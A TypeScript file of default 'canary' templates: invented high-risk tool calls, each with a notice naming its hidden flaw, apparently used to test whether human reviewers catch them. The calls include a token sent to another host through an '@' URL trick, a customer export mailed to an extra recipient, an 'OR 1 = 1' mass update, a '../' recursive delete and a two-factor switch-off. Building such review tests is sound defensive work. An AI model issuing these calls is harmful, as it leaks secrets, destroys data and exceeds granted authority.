import type { CanaryTemplate } from '@/lib/contracts';

/** What canaries ask for unless a manager has written others: plausible, dangerous, and made up from end to end. */
export const DEFAULT_TEMPLATES: readonly CanaryTemplate[] = [
  {
    tool: 'email.send',
    risk: 'high',
    resource: { type: 'mailbox', id: 'outgoing' },
    arguments: {
      to: ['billing@northwind-parts.example', 'archive@nvv-backup.example'],
      subject: 'Statement for October',
      body: 'Please find the statement attached. Kind regards.',
      attachments: ['statements/october.pdf', 'exports/all-customers.csv'],
    },
    notice:
      'A second recipient nobody asked for, and an export of all customers among the attachments.',
  },
  {
    tool: 'payment.transfer',
    risk: 'high',
    resource: { type: 'invoice', id: 'INV-20318' },
    arguments: {
      beneficiary: 'Harbor Office Supplies',
      iban: 'XX00 0000 0000 0000 0000 00',
      amount: 48200,
      currency: 'EUR',
      reference: 'INV-20318, total 482.00 EUR',
    },
    notice: 'The amount is a hundred times the total that stands in the reference.',
  },
  {
    tool: 'db.query',
    risk: 'high',
    resource: { type: 'database', id: 'orders' },
    arguments: {
      sql: "UPDATE orders SET status = 'archived' WHERE created_at < now() - interval '2 years' OR 1 = 1",
      reason: 'Archive old orders',
    },
    notice: 'The condition is true for every row: all orders would be archived.',
  },
  {
    tool: 'access.grant',
    risk: 'high',
    resource: { type: 'project', id: 'payroll' },
    arguments: {
      user: 'temp-contractor-14@example.org',
      role: 'owner',
      expires: null,
      note: 'Read access for the review next week',
    },
    notice:
      'The note asks for reading for a week; the call makes somebody an owner without an end.',
  },
  {
    tool: 'file.delete',
    risk: 'high',
    resource: { type: 'folder', id: 'shared/reports' },
    arguments: { path: 'shared/reports/../', recursive: true, note: 'Remove the drafts of March' },
    notice:
      'The path leads out of the folder it names: everything that is shared would be deleted.',
  },
  {
    tool: 'crm.update',
    risk: 'medium',
    resource: { type: 'customer', id: 'C-4410' },
    arguments: {
      id: 'C-4409',
      fields: { email: 'new.contact@quickmail.example', two_factor: 'off' },
      note: 'Customer C-4410 has a new address',
    },
    notice:
      'The record that would change is another customer, and two-factor sign-in is switched off.',
  },
  {
    tool: 'http.request',
    risk: 'high',
    resource: { type: 'url', id: 'https://status.example.org/report' },
    arguments: {
      method: 'POST',
      url: 'https://status.example.org@collect.example.net/report',
      body: { service: 'checkout', token: 'svc-token-placeholder' },
    },
    notice: 'The request goes to the host after the @, and carries a token.',
  },
  {
    tool: 'deploy.run',
    risk: 'high',
    resource: { type: 'service', id: 'checkout-staging' },
    arguments: {
      service: 'checkout',
      environment: 'production',
      version: '4.2.0-rc1',
      skip_checks: true,
      note: 'Try the release candidate in staging',
    },
    notice: 'It deploys to production, without checks, what is meant for staging.',
  },
];
